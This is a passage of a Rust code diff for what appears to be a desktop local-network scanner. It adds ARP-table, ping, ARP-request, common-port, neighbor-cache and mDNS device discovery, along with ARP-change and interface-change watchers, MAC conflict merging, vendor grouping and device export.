+    state: State<ActiveScans>,
+) -> Result<bool, AppError> {
+    let scans = state.0.lock()
+        .map_err(|e| system_error("Failed to access active scans", Some(&e.to_string())))?;
+    
+    if let Some(handle) = scans.get(&scan_id) {
+        handle.cancel();
+        Ok(true)
+    } else {
+        Err(network_error(&format!("Scan {} not found", scan_id), None))
+    }
+}
+
+/// Flush the ARP cache of `interface_name`, or of every interface when `None`,
+/// so the next scan has to discover every host again
+pub fn clear_arp_cache(interface_name: Option<String>) -> Result<(), AppError> {
+    require_elevation("clear the ARP cache")?;
+    
+    if let Some(name) = &interface_name {
+        if !get_interfaces()?.iter().any(|iface| &iface.name == name) {
+            return Err(interface_error(&format!("Interface '{}' not found", name), None));
+        }
+    }
+    
+    Platform::clear_arp_cache(interface_name.as_deref())
+        .map_err(|e| system_error("Failed to clear ARP cache", Some(&e)))
+}
+
+/// How often an ARP watch rereads the cache
+const ARP_WATCH_INTERVAL: Duration = Duration::from_secs(2);
+
+/// Running ARP watches and their stop flags, keyed by watch id
+#[derive(Default)]
+pub struct ArpWatches(Arc<Mutex<HashMap<String, Arc<AtomicBool>>>>);
+
+/// Watch the ARP cache entries of the interface's network and emit
+/// `arp-anomaly` whenever a known host's MAC changes. Returns the watch id.
+pub fn start_arp_watch(
+    interface_name: String,
+    state: State<ArpWatches>,
+    app: AppHandle,
+) -> Result<String, AppError> {
+    let (_, network) = get_interface_network(&interface_name, None)?;
+    let gateways: Vec<String> = Platform::default_routes(None)
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|gateway| network.contains(*gateway))
+        .map(|gateway| gateway.to_string())
+        .collect();
+    
+    let watch_id = Uuid::new_v4().to_string();
+    let stop_flag = Arc::new(AtomicBool::new(false));
+    state.0.lock()
+        .map_err(|e| system_error("Failed to access ARP watches", Some(&e.to_string())))?
+        .insert(watch_id.clone(), stop_flag.clone());
+    
+    let id = watch_id.clone();
+    thread::spawn(move || {
+        let mut tracker = arp_watch::ArpTracker::default();
+        
+        while !stop_flag.load(Ordering::SeqCst) {
+            match read_arp_table() {
+                Ok(arp_entries) => {
+                    let entries: Vec<(String, String)> = arp_entries.into_iter()
+                        .filter(|entry| {
+                            let in_network = entry.ip.parse().map(|ip| network.contains(ip)).unwrap_or(false);
+                            let unicast = arp_packet::parse_mac(&entry.mac)
+                                .map(|mac| mac != [0u8; 6] && mac[0] & 0x01 == 0)
+                                .unwrap_or(false);
+                            in_network && unicast
+                        })
+                        .map(|entry| (entry.ip, entry.mac))
+                        .collect();
+                    
+                    for anomaly in tracker.observe(&id, &entries, &gateways) {
+                        println!("ARP anomaly on {}: {} moved from {} to {}", interface_name, anomaly.ip, anomaly.previous_mac, anomaly.mac);
+                        if let Err(e) = app.emit("arp-anomaly", anomaly) {
+                            eprintln!("Failed to emit arp-anomaly event: {}", e);
+                        }
+                    }
+                }
+                Err(e) => eprintln!("ARP watch {} failed to read the ARP table: {}", id, e),
+            }
+            
+            thread::sleep(ARP_WATCH_INTERVAL);
+        }
+    });
+    
+    Ok(watch_id)
+}
+
+/// Stop an ARP watch started by `start_arp_watch`
+pub fn stop_arp_watch(
+    watch_id: String,
+    state: State<ArpWatches>,
+) -> Result<bool, AppError> {
+    let mut watches = state.0.lock()
+        .map_err(|e| system_error("Failed to access ARP watches", Some(&e.to_string())))?;
+    
+    match watches.remove(&watch_id) {
+        Some(stop_flag) => {
+            stop_flag.store(true, Ordering::SeqCst);
+            Ok(true)
+        }
+        None => Err(network_error(&format!("ARP watch {} not found", watch_id), None)),
+    }
+}
+
+/// Default and bounds for the polling interval of an interface watch
+pub const DEFAULT_INTERFACE_WATCH_INTERVAL_MS: u64 = 3000;
+pub const MIN_INTERFACE_WATCH_INTERVAL_MS: u64 = 500;
+pub const MAX_INTERFACE_WATCH_INTERVAL_MS: u64 = 60_000;
+
+/// Running interface watches and their stop flags, keyed by watch id
+#[derive(Default)]
+pub struct InterfaceWatches(Arc<Mutex<HashMap<String, Arc<AtomicBool>>>>);
+
+/// What an interface watch compares between readings. Link speed is left out
+/// because Wi-Fi adapters renegotiate it all the time.
+fn interface_signature(interfaces: &[CustomNetworkInterface]) -> Vec<String> {
+    let mut signature: Vec<String> = interfaces.iter()
+        .map(|iface| format!(
+            "{}|{}|{}|{}|{}",
+            iface.name, iface.mac, iface.ips.join(","), iface.ipv6s.join(","), iface.is_up
+        ))
+        .collect();
+    signature.sort();
+    signature
+}
+
+/// Reread the usable interfaces every `interval_ms` and emit
+/// `interfaces-changed` with the new list whenever an adapter appears,
+/// disappears, goes up or down or changes address. Returns the watch id.
+pub fn start_interface_watch(
+    interval_ms: Option<u64>,
+    include_virtual: bool,
+    include_link_local: bool,
+    state: State<InterfaceWatches>,
+    app: AppHandle,
+) -> Result<String, AppError> {
+    let interval_ms = interval_ms.unwrap_or(DEFAULT_INTERFACE_WATCH_INTERVAL_MS);
+    if !(MIN_INTERFACE_WATCH_INTERVAL_MS..=MAX_INTERFACE_WATCH_INTERVAL_MS).contains(&interval_ms) {
+        return Err(config_error(
+            &format!(
+                "Invalid watch interval {}ms: must be between {}ms and {}ms",
+                interval_ms, MIN_INTERFACE_WATCH_INTERVAL_MS, MAX_INTERFACE_WATCH_INTERVAL_MS
+            ),
+            None,
+        ));
+    }
+    
+    // Having no usable adapter is a state like any other here
+    let read_interfaces = move || {
+        get_usable_interfaces(include_virtual, include_link_local).unwrap_or_else(|e| {
+            eprintln!("Interface watch found no usable interfaces: {}", e);
+            Vec::new()
+        })
+    };
+    let mut last_signature = interface_signature(&read_interfaces());
+    
+    let watch_id = Uuid::new_v4().to_string();
+    let stop_flag = Arc::new(AtomicBool::new(false));
+    state.0.lock()
+        .map_err(|e| system_error("Failed to access interface watches", Some(&e.to_string())))?
+        .insert(watch_id.clone(), stop_flag.clone());
+    
+    thread::spawn(move || {
+        loop {
+            thread::sleep(Duration::from_millis(interval_ms));
+            if stop_flag.load(Ordering::SeqCst) {
+                break;
+            }
+            
+            let interfaces = read_interfaces();
+            let signature = interface_signature(&interfaces);
+            if signature != last_signature {
+                println!("Network interfaces changed, now {} usable", interfaces.len());
+                last_signature = signature;
+                if let Err(e) = app.emit("interfaces-changed", interfaces) {
+                    eprintln!("Failed to emit interfaces-changed event: {}", e);
+                }
+            }
+        }
+    });
+    
+    Ok(watch_id)
+}
+
+/// Stop an interface watch started by `start_interface_watch`
+pub fn stop_interface_watch(
+    watch_id: String,
+    state: State<InterfaceWatches>,
+) -> Result<bool, AppError> {
+    let mut watches = state.0.lock()
+        .map_err(|e| system_error("Failed to access interface watches", Some(&e.to_string())))?;
+    
+    match watches.remove(&watch_id) {
+        Some(stop_flag) => {
+            stop_flag.store(true, Ordering::SeqCst);
+            Ok(true)
+        }
+        None => Err(interface_error(&format!("Interface watch {} not found", watch_id), None)),
+    }
+}
+
+/// Look up the subnet prefix length for an IPv4 address assigned to an interface
+fn get_interface_prefix(interface_name: &str, local_ip: Ipv4Addr) -> Result<u8, String> {
+    let if_addrs = get_if_addrs().map_err(|e| format!("Failed to get interfaces: {}", e))?;
+    
+    for iface in if_addrs {
+        if iface.name != interface_name {
+            continue;
+        }
+        
+        if let IfAddr::V4(v4) = iface.addr {
+            if v4.ip == local_ip {
+                return ipnetwork::ipv4_mask_to_prefix(v4.netmask)
+                    .map_err(|e| format!("Invalid netmask {} on interface '{}': {}", v4.netmask, interface_name, e));
+            }
+        }
+    }
+    
+    Err(format!("No netmask found for {} on interface '{}'", local_ip, interface_name))
+}
+
+/// Iterate the usable host addresses of a network, skipping the network and broadcast addresses
+fn host_addresses(network: Ipv4Network) -> impl Iterator<Item = Ipv4Addr> {
+    let network_addr = network.network();
+    let broadcast_addr = network.broadcast();
+    network.iter().filter(move |ip| *ip != network_addr && *ip != broadcast_addr)
+}
+
+/// Emits `scan-progress` once for every enabled phase, whether it ran or was
+/// skipped, so `completed` reaches `total` by the end of the scan
+struct ScanProgressReporter<'a> {
+    app: &'a AppHandle,
+    completed: u32,
+    total: u32,
+}
+
+impl<'a> ScanProgressReporter<'a> {
+    fn new(app: &'a AppHandle, methods: &DiscoveryMethods) -> Self {
+        Self {
+            app,
+            completed: 0,
+            total: methods.enabled_count(),
+        }
+    }
+    
+    fn phase_done(&mut self, phase: &str, devices_found: usize, skipped: bool) {
+        self.completed += 1;
+        let progress = ScanProgress {
+            phase: phase.to_string(),
+            completed: self.completed,
+            total: self.total,
+            devices_found: devices_found as u32,
+            skipped,
+        };
+        
+        if let Err(e) = self.app.emit("scan-progress", progress) {
+            eprintln!("Failed to emit scan progress: {}", e);
+        }
+    }
+}
+
+/// Where a reported MAC came from, ordered from least to most trustworthy
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum MacSource {
+    Unknown,
+    StaticArp,
+    Neighbor,
+    DynamicArp,
+}
+
+/// A device seen during a scan, before hostname resolution
+#[derive(Debug, Clone)]
+struct DiscoveredDevice {
+    mac: String,
+    discovery_method: String,
+    /// Method that saw this IP first; unlike `discovery_method` never replaced
+    found_by: String,
+    source: MacSource,
+    /// Two discovery methods reported different MACs for this IP
+    conflict: bool,
+}
+
+/// Canonicalize a MAC such as `AA-BB-CC-DD-EE-FF` to `aa:bb:cc:dd:ee:ff`,
+/// or `None` if it is not a valid 6-byte address
+pub fn normalize_mac(raw: &str) -> Option<String> {
+    arp_packet::parse_mac(raw.trim()).map(format_mac)
+}
+
+fn format_mac(bytes: [u8; 6]) -> String {
+    platform::format_mac(bytes)
+}
+
+/// Merge a sighting into the device map, keeping the MAC from the most trustworthy
+/// source and flagging disagreements. Returns true the first time an IP is seen.
+fn merge_device(
+    devices: &mut HashMap<String, DiscoveredDevice>,
+    ip: &str,
+    mac: &str,
+    source: MacSource,
+    discovery_method: &str,
+) -> bool {
+    // Anything we can't parse tells us nothing about the MAC
+    let (mac, source) = match normalize_mac(mac) {
+        Some(mac) => (mac, source),
+        None => ("Unknown".to_string(), MacSource::Unknown),
+    };
+    
+    match devices.get_mut(ip) {
+        Some(existing) => {
+            if source != MacSource::Unknown && existing.source != MacSource::Unknown && existing.mac != mac {
+                if !existing.conflict {
+                    eprintln!("MAC conflict for {}: {} ({}) vs {} ({})",
+                        ip, existing.mac, existing.discovery_method, mac, discovery_method);
+                }
+                existing.conflict = true;
+            }
+            if source >= existing.source {
+                existing.mac = mac;
+                existing.source = source;
+                existing.discovery_method = discovery_method.to_string();
+            }
+            false
+        }
+        None => {
+            devices.insert(ip.to_string(), DiscoveredDevice {
+                mac,
+                discovery_method: discovery_method.to_string(),
+                found_by: discovery_method.to_string(),
+                source,
+                conflict: false,
+            });
+            true
+        }
+    }
+}
+
+fn arp_entry_source(entry: &ArpEntry) -> MacSource {
+    if entry.is_static {
+        MacSource::StaticArp
+    } else {
+        MacSource::DynamicArp
+    }
+}
+
+/// Insert a discovered device, emitting `device-found` the first time an IP is seen
+fn record_device(
+    devices: &mut HashMap<String, DiscoveredDevice>,
+    ip: String,
+    mac: String,
+    source: MacSource,
+    discovery_method: &str,
+    app: &AppHandle,
+) {
+    if merge_device(devices, &ip, &mac, source, discovery_method) {
+        let device = NetworkDevice {
+            vendor: get_vendor_from_mac(&mac).unwrap_or_else(|| discovery_method.to_string()),
+            mac: normalize_mac(&mac).unwrap_or_else(|| mac.clone()),
+            ip,
+            hostname: "Unknown".to_string(),
+            open_ports: Vec::new(),
+            conflict: false,
+            device_type: None,
+            label: None,
+            online: true,
+        };
+        
+        if let Err(e) = app.emit("device-found", device) {
+            eprintln!("Failed to emit device-found event: {}", e);
+        }
+    }
+}
+
+/// Returns the devices, the methods that ran and how many devices each found first
+fn perform_arp_scan(
+    network: Ipv4Network,
+    local_ip: Ipv4Addr,
+    local_mac: &str,
+    options: &ScanOptions,
+    workers: usize,
+    scan: &ScanHandle,
+    app: &AppHandle,
+) -> Result<(Vec<NetworkDevice>, Vec<String>, HashMap<String, usize>), String> {
+    let mut devices = HashMap::new();
+    let mut methods_used = Vec::new();
+    
+    println!("Starting comprehensive network scan for {}", network);
+    // Generated afresh for each method instead of holding every address of a large network
+    let hosts = || {
+        let options = options.clone();
+        host_addresses(network).filter(move |ip| options.in_host_range(*ip))
+    };
+    
+    let methods = options.methods;
+    let mut progress = ScanProgressReporter::new(app, &methods);
+    let runner: Arc<dyn CommandRunner> = Arc::new(SystemRunner);
+    // Hosts woken by these only show up when the ARP table is read again
+    let probes_hosts = methods.ping_sweep || methods.arp_requests || methods.port_scan;
+    
+    // Method 1: Read existing ARP table first
+    if methods.arp_table {
+        methods_used.push("ARP Table".to_string());
+        if let Ok(arp_entries) = read_arp_table() {
+            for entry in arp_entries {
+                let ip: Ipv4Addr = entry.ip.parse().unwrap_or_else(|_| Ipv4Addr::new(0, 0, 0, 0));
+                if network.contains(ip) && options.in_host_range(ip) && ip != local_ip {
+                    let source = arp_entry_source(&entry);
+                    record_device(&mut devices, entry.ip, entry.mac, source, "ARP Table", app);
+                }
+            }
+        }
+        progress.phase_done("arp_table", devices.len(), false);
+    }
+    
+    // Method 2: Aggressive ping sweep with multiple techniques
+    if methods.ping_sweep {
+        let skipped = scan.is_cancelled();
+        if !skipped {
+            println!("Performing ping sweep...");
+            // Echoes sent by the OS itself are far cheaper than two ping processes per host
+            if Platform::native_icmp_available() {
+                perform_native_ping_sweep(hosts(), workers, scan);
+            } else {
+                perform_aggressive_ping_sweep(Arc::clone(&runner), hosts(), workers, scan)?;
+            }
+            methods_used.push("Ping Sweep".to_string());
+        }
+        progress.phase_done("ping_sweep", devices.len(), skipped);
+    }
+    
+    // Method 3: ARP requests
+    if methods.arp_requests {
+        let skipped = scan.is_cancelled();
+        if !skipped {
+            println!("Sending ARP requests...");
+            perform_arp_requests(Arc::clone(&runner), hosts(), workers, scan)?;
+            methods_used.push("ARP Requests".to_string());
+        }
+        progress.phase_done("arp_requests", devices.len(), skipped);
+    }
+    
+    // Method 4: Port scanning on common ports to trigger responses
+    let mut port_responses = HashMap::new();
+    let port_scan_skipped = scan.is_cancelled();
+    if methods.port_scan && !port_scan_skipped {
+        println!("Performing port scan on common ports...");
+        port_responses = perform_port_scan(
+            hosts(),
+            Duration::from_millis(options.port_timeout_ms),
+            workers,
+            scan,
+        )?;
+        methods_used.push("Port Scan".to_string());
+    }
+    
+    if scan.is_cancelled() {
+        println!("Scan cancelled, collecting partial results...");
+    }
+    
+    if probes_hosts {
+        // Wait for network responses
+        if !scan.is_cancelled() {
+            wait_for_arp_responses(network, scan);
+        }
+        
+        // Read ARP table again after aggressive scanning
+        if let Ok(arp_entries) = read_arp_table() {
+            for entry in arp_entries {
+                let ip: Ipv4Addr = entry.ip.parse().unwrap_or_else(|_| Ipv4Addr::new(0, 0, 0, 0));
+                if network.contains(ip) && options.in_host_range(ip) && ip != local_ip {
+                    let source = arp_entry_source(&entry);
+                    record_device(&mut devices, entry.ip, entry.mac, source, "ARP Scan", app);
+                }
+            }
+        }
+    }
+    
+    // Hosts that answered a TCP probe but never showed up in the ARP table
+    for ip in port_responses.keys() {
+        if !devices.contains_key(ip) {
+            record_device(&mut devices, ip.clone(), "Unknown".to_string(), MacSource::Unknown, "Port Scan", app);
+        }
+    }
+    if methods.port_scan {
+        progress.phase_done("port_scan", devices.len(), port_scan_skipped);
+    }
+    
+    // Method 5: Read the OS neighbor cache
+    if methods.neighbor_discovery {
+        let skipped = scan.is_cancelled();
+        if !skipped {
+            println!("Checking neighbor discovery...");
+            if let Ok(neighbors) = get_neighbor_discovery(runner.as_ref(), network) {
+                for (ip, mac) in neighbors {
+                    record_device(&mut devices, ip, mac, MacSource::Neighbor, "Neighbor Discovery", app);
+                }
+                methods_used.push("Neighbor Discovery".to_string());
+            }
+        }
+        progress.phase_done("neighbor_discovery", devices.len(), skipped);
+    }
+    
+    // Method 6: Ask mDNS responders for their .local names
+    // Skipped when every device was named recently enough
+    let mut mdns_names = HashMap::new();
+    if methods.mdns {
+        let all_named = devices.keys().all(|ip| hostname_cache::lookup(ip).is_some());
+        let skipped = all_named || scan.is_cancelled();
+        if !skipped {
+            println!("Querying mDNS responders...");
+            match get_mdns_discovery(network, local_ip) {
+                Ok(names) => {
+                    for (ip, hostname) in &names {
+                        hostname_cache::record(ip, hostname);
+                    }
+                    mdns_names.extend(names);
+                    methods_used.push("mDNS".to_string());
+                }
+                Err(e) => eprintln!("mDNS discovery failed: {}", e),
+            }
+        }
+        progress.phase_done("mdns", devices.len(), skipped);
+    }
+    
+    // Neighbor discovery and mDNS report the whole network
+    devices.retain(|ip, _| ip.parse().map(|ip| options.in_host_range(ip)).unwrap_or(false));
+    
+    let gateways: Vec<String> = Platform::default_routes(None)
+        .unwrap_or_default()
+        .into_iter()
+        .map(|gateway| gateway.to_string())
+        .collect();
+    if !options.include_gateway {
+        devices.retain(|ip, _| !gateways.contains(ip));
+    }
+    
+    // Look up names the mDNS responders didn't give us, several at a time
+    let unnamed: Vec<String> = devices.keys()
+        .filter(|ip| !mdns_names.contains_key(*ip))
+        .cloned()
+        .collect();
+    let mut hostnames = resolve_hostnames(unnamed, workers, options.dns_server, scan);
+    
+    // Convert to final device list
+    let mut device_list = Vec::new();
+    let mut method_counts = HashMap::new();
+    for (ip, discovered) in devices {
+        *method_counts.entry(discovered.found_by).or_insert(0) += 1;
+        let hostname = mdns_names.remove(&ip)
+            .or_else(|| hostnames.remove(&ip))
+            .unwrap_or_else(|| "Unknown".to_string());
+        let vendor = get_vendor_from_mac(&discovered.mac).unwrap_or(discovered.discovery_method);
+        let open_ports = port_responses.remove(&ip).unwrap_or_default();
+        
+        let mut device = NetworkDevice {
+            ip,
+            mac: discovered.mac,
+            hostname,
+            vendor,
+            open_ports,
+            conflict: discovered.conflict,
+            device_type: None,
+            label: None,
+            online: true,
+        };
+        device.device_type = device_type::classify(&device, gateways.contains(&device.ip));
+        device_list.push(device);
+    }
+    
+    // Add our own interface when it is part of the scanned range
+    if options.include_self && network.contains(local_ip) && options.in_host_range(local_ip) {
+        device_list.push(NetworkDevice {
+            ip: local_ip.to_string(),
+            mac: local_mac.to_string(),
+            hostname: "Local Machine".to_string(),
+            vendor: "Local".to_string(),
+            open_ports: Vec::new(),
+            conflict: false,
+            device_type: Some(DeviceType::Computer),
+            label: None,
+            online: true,
+        });
+    }
+    
+    apply_device_labels(&mut device_list);
+    sort_devices_by_ip(&mut device_list);
+    
+    println!("Scan complete. Found {} devices", device_list.len());
+    Ok((device_list, methods_used, method_counts))
+}
+
+/// How often the ARP table is re-read while waiting for late replies
+const RESPONSE_POLL_INTERVAL: Duration = Duration::from_millis(250);
+/// Number of consecutive polls without new entries after which replies are considered done
+const RESPONSE_SETTLE_POLLS: u32 = 2;
+/// Upper bound on the wait, for slow responders on large networks
+const MAX_RESPONSE_WAIT: Duration = Duration::from_secs(5);
+
+/// Wait until the ARP table stops growing for the network, or the max wait is reached
+fn wait_for_arp_responses(network: Ipv4Network, scan: &ScanHandle) {
+    let count_entries = || {
+        read_arp_table()
+            .map(|entries| {
+                entries.iter()
+                    .filter(|entry| entry.ip.parse::<Ipv4Addr>().map(|ip| network.contains(ip)).unwrap_or(false))
+                    .count()
+            })
+            .unwrap_or(0)
+    };
+    
+    let started = Instant::now();
+    let mut last_count = count_entries();
+    let mut quiet_polls = 0;
+    
+    while quiet_polls < RESPONSE_SETTLE_POLLS && started.elapsed() < MAX_RESPONSE_WAIT {
+        if scan.is_cancelled() {
+            break;
+        }
+        
+        thread::sleep(RESPONSE_POLL_INTERVAL);
+        
+        let count = count_entries();
+        if count > last_count {
+            quiet_polls = 0;
+        } else {
+            quiet_polls += 1;
+        }
+        last_count = count;
+    }
+    
+    println!("Waited {}ms for network responses", started.elapsed().as_millis());
+}
+
+/// Sort devices by numeric IPv4 address, falling back to string order
+fn sort_devices_by_ip(devices: &mut [NetworkDevice]) {
+    devices.sort_by(|a, b| {
+        let a_ip: Result<Ipv4Addr, _> = a.ip.parse();
+        let b_ip: Result<Ipv4Addr, _> = b.ip.parse();
+        match (a_ip, b_ip) {
+            (Ok(a_addr), Ok(b_addr)) => a_addr.cmp(&b_addr),
+            _ => a.ip.cmp(&b.ip),
+        }
+    });
+}
+
+/// Bucket for devices whose MAC has no registered vendor
+pub const UNKNOWN_VENDOR: &str = "Unknown";
+
+/// Group devices by the manufacturer registered for their MAC. Devices
+/// without one, e.g. with a randomized MAC, go to the `UNKNOWN_VENDOR` bucket.
+pub fn group_devices_by_vendor(devices: Vec<NetworkDevice>) -> HashMap<String, Vec<NetworkDevice>> {
+    let mut groups: HashMap<String, Vec<NetworkDevice>> = HashMap::new();
+    for device in devices {
+        let vendor = get_vendor_from_mac(&device.mac).unwrap_or_else(|| UNKNOWN_VENDOR.to_string());
+        groups.entry(vendor).or_default().push(device);
+    }
+    groups
+}
+
+/// Save a device list to `path` so scans can be compared later
+pub fn export_devices(devices: Vec<NetworkDevice>, format: ExportFormat, path: String) -> Result<(), AppError> {
+    if path.trim().is_empty() {
+        return Err(config_error("Export path must not be empty", None));
+    }
+    
+    export::write_devices(&devices, format, std::path::Path::new(&path))
+        .map_err(|e| system_error("Failed to export devices", Some(&e)))
+}
+
+/// List devices already known to the ARP and neighbor caches without any active probing.
+/// Hostnames are not resolved so the result comes back immediately.
+pub fn quick_scan(interface_name: String) -> Result<Vec<NetworkDevice>, AppError> {
+    let (interface, network) = get_interface_network(&interface_name, None)?;
+    let local_ip = network.ip();
+    let mut devices = HashMap::new();
+    
+    let arp_entries = read_arp_table()
+        .map_err(|e| network_error("Failed to read ARP table", Some(&e)))?;
+    for entry in arp_entries {
+        let ip: Ipv4Addr = entry.ip.parse().unwrap_or_else(|_| Ipv4Addr::new(0, 0, 0, 0));
+        if network.contains(ip) && ip != local_ip {
+            merge_device(&mut devices, &entry.ip, &entry.mac, arp_entry_source(&entry), "ARP Table");
+        }
+    }
+    
+    match get_neighbor_discovery(&SystemRunner, network) {
+        Ok(neighbors) => {
+            for (ip, mac) in neighbors {
+                merge_device(&mut devices, &ip, &mac, MacSource::Neighbor, "Neighbor Discovery");
+            }
+        }
+        Err(e) => eprintln!("Neighbor discovery failed during quick scan: {}", e),
+    }
+    
+    let mut device_list: Vec<NetworkDevice> = devices
+        .into_iter()
+        .map(|(ip, discovered)| NetworkDevice {
+            vendor: get_vendor_from_mac(&discovered.mac).unwrap_or(discovered.discovery_method),
+            ip,
+            mac: discovered.mac,
+            hostname: "Unknown".to_string(),
+            open_ports: Vec::new(),
+            conflict: discovered.conflict,
+            device_type: None,
+            label: None,
+            online: true,
+        })
+        .collect();
+    
+    device_list.push(NetworkDevice {
+        ip: local_ip.to_string(),
+        mac: interface.mac,
+        hostname: "Local Machine".to_string(),
+        vendor: "Local".to_string(),
+        open_ports: Vec::new(),
+        conflict: false,
+        device_type: Some(DeviceType::Computer),
+        label: None,
+        online: true,
+    });
+    
+    apply_device_labels(&mut device_list);
+    sort_devices_by_ip(&mut device_list);
+    Ok(device_list)
+}
+
+/// Run `task` for every job on a fixed pool of at most `workers` threads.
+/// Jobs are taken from the iterator as workers free up, so a large network
+/// is never queued up front. Workers stop picking up new jobs once the scan
+/// is cancelled.
+fn run_worker_pool<I, F>(jobs: I, workers: usize, scan: &ScanHandle, task: F)
+where
+    I: IntoIterator,
+    I::IntoIter: Send + 'static,
+    F: Fn(I::Item) + Send + Sync + 'static,
+{
+    let jobs = jobs.into_iter();
+    let worker_count = match jobs.size_hint() {
+        (_, Some(upper)) => workers.max(1).min(upper),
+        (_, None) => workers.max(1),
+    };
+    
+    let jobs = Arc::new(Mutex::new(jobs));
+    let task = Arc::new(task);
+    let mut handles = Vec::with_capacity(worker_count);
+    
+    for _ in 0..worker_count {
+        let jobs = Arc::clone(&jobs);
+        let task = Arc::clone(&task);
+        let scan = scan.clone();
+        
+        handles.push(thread::spawn(move || loop {
+            if scan.is_cancelled() {
+                break;
+            }
+            
+            // Hold the lock only while taking the next job
+            let job = match jobs.lock() {
+                Ok(mut jobs) => jobs.next(),
+                Err(_) => break,
+            };
+            
+            match job {
+                Some(job) => task(job),
+                None => break,
+            }
+        }));
+    }
+    
+    for handle in handles {
+        let _ = handle.join();
+    }
+}
+
+fn perform_aggressive_ping_sweep<I>(
+    runner: Arc<dyn CommandRunner>,
+    hosts: I,
+    workers: usize,
+    scan: &ScanHandle,
+) -> Result<(), String>
+where
+    I: IntoIterator<Item = Ipv4Addr>,
+    I::IntoIter: Send + 'static,
+{
+    // Ping every host twice, for hosts that drop the first echo
+    run_worker_pool(hosts, workers, scan, move |ip| {
+        Platform::probe_host(runner.as_ref(), ip, 50);
+        Platform::probe_host(runner.as_ref(), ip, 50);
+    });
+    
+    Ok(())
+}
+
+/// How long the native ping sweep waits for each echo reply
+const NATIVE_SWEEP_TIMEOUT_MS: u32 = 100;
+
+/// Ping every host through the OS ICMP API instead of the ping command
+fn perform_native_ping_sweep<I>(hosts: I, workers: usize, scan: &ScanHandle)
+where
+    I: IntoIterator<Item = Ipv4Addr>,
+    I::IntoIter: Send + 'static,
+{
+    // A second echo for hosts that drop the first one
+    run_worker_pool(hosts, workers, scan, |ip| {
+        for _ in 0..2 {
+            match Platform::ping(ip, NATIVE_SWEEP_TIMEOUT_MS) {
+                Ok(None) => continue,
+                Ok(Some(_)) => break,
+                Err(e) => {
+                    eprintln!("Failed to ping {}: {}", ip, e);
+                    break;
+                }
+            }
+        }
+    });
+}
+
+fn perform_arp_requests<I>(
+    runner: Arc<dyn CommandRunner>,
+    hosts: I,
+    workers: usize,
+    scan: &ScanHandle,
+) -> Result<(), String>
+where
+    I: IntoIterator<Item = Ipv4Addr>,
+    I::IntoIter: Send + 'static,
+{
+    run_worker_pool(hosts, workers, scan, move |ip| Platform::request_arp(runner.as_ref(), ip));
+    
+    Ok(())
+}
+
+/// Probe common TCP ports on every host.
+///
+/// Returns the hosts that answered, mapped to the ports that accepted a
+/// connection. A refused connection still proves the host is up, so such
+/// hosts are included with an empty port list.
+fn perform_port_scan<I>(
+    hosts: I,
+    timeout: Duration,
+    workers: usize,
+    scan: &ScanHandle,
+) -> Result<HashMap<String, Vec<u16>>, String>
+where
+    I: IntoIterator<Item = Ipv4Addr>,
+    I::IntoIter: Send + 'static,
+{
+    // The last few also identify the device type; see device_type::classify
+    const COMMON_PORTS: &[u16] = &[80, 443, 22, 21, 23, 25, 53, 110, 995, 993, 143, 587, 9100, 631, 62078, 8009, 3389];
+    
+    // Generated as the workers go rather than one entry per host and port up front
+    let probes = hosts.into_iter()
+        .flat_map(|target_ip| COMMON_PORTS.iter().map(move |&port| (target_ip, port)));
+    
+    let responses: Arc<Mutex<HashMap<String, Vec<u16>>>> = Arc::new(Mutex::new(HashMap::new()));
+    let results = Arc::clone(&responses);
+    
+    run_worker_pool(probes, workers, scan, move |(ip, port): (Ipv4Addr, u16)| {
+        let addr = SocketAddr::new(IpAddr::V4(ip), port);
+        let open = match TcpStream::connect_timeout(&addr, timeout) {
+            Ok(_) => true,
+            Err(e) if e.kind() == std::io::ErrorKind::ConnectionRefused => false,
+            // Timeouts and unreachable hosts tell us nothing
+            Err(_) => return,
+        };
+        
+        if let Ok(mut results) = results.lock() {
+            let ports = results.entry(ip.to_string()).or_default();
+            if open {
+                ports.push(port);
+            }
+        }
+    });
+    
+    let mut responses = responses.lock()
+        .map_err(|e| format!("Failed to collect port scan results: {}", e))?
+        .clone();
+    for ports in responses.values_mut() {
+        ports.sort_unstable();
+    }
+    
+    Ok(responses)
+}
+
+/// Ports probed by `scan_ports` when the caller doesn't name any
+const DEFAULT_SERVICE_PORTS: &[u16] = &[
+    21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 554, 587, 631, 993, 995,
+    1433, 1883, 3306, 3389, 5000, 5432, 5900, 8000, 8080, 8443, 9100,
+];
+
+/// Probe `ports` on a single host (a default service list if empty) and
+/// return the ones that accepted a TCP connection, sorted.
+pub fn scan_ports(ip: String, ports: Vec<u16>, timeout_ms: u64) -> Result<Vec<u16>, AppError> {
+    let addr: IpAddr = ip.trim().parse()
+        .map_err(|e: std::net::AddrParseError| config_error("Invalid IP address", Some(&e.to_string())))?;
+    if let IpAddr::V4(ipv4) = addr {
+        validate_host_ip(ipv4)?;
+    }
+    if timeout_ms < MIN_PORT_TIMEOUT_MS || timeout_ms > MAX_PORT_TIMEOUT_MS {
+        return Err(config_error(
+            &format!(
+                "Invalid port timeout {}ms: must be between {}ms and {}ms",
+                timeout_ms, MIN_PORT_TIMEOUT_MS, MAX_PORT_TIMEOUT_MS
+            ),
+            None,
+        ));
+    }
+    
+    let mut ports = if ports.is_empty() { DEFAULT_SERVICE_PORTS.to_vec() } else { ports };
+    ports.retain(|&port| port != 0);
+    ports.sort_unstable();
+    ports.dedup();
+    
+    let timeout = Duration::from_millis(timeout_ms);
+    let open_ports = Arc::new(Mutex::new(Vec::new()));
+    let results = Arc::clone(&open_ports);
+    
+    run_worker_pool(ports, default_scan_concurrency(), &ScanHandle::new(), move |port: u16| {
+        if TcpStream::connect_timeout(&SocketAddr::new(addr, port), timeout).is_ok() {
+            if let Ok(mut results) = results.lock() {
+                results.push(port);
+            }
+        }
+    });
+    
+    let mut open_ports = open_ports.lock()
+        .map_err(|e| system_error("Failed to collect port scan results", Some(&e.to_string())))?
+        .clone();
+    open_ports.sort_unstable();
+    
+    Ok(open_ports)
+}
+
+/// Unicast IPv4 neighbors inside `network`, as (ip, mac) pairs
+fn get_neighbor_discovery(runner: &dyn CommandRunner, network: Ipv4Network) -> Result<Vec<(String, String)>, String> {
+    let neighbors = Platform::neighbors(runner)?
+        .into_iter()
+        // Unreachable/incomplete entries carry a zero MAC; broadcast and multicast aren't hosts
+        .filter(|(ip, mac)| *mac != [0u8; 6] && mac[0] & 0x01 == 0 && network.contains(*ip))
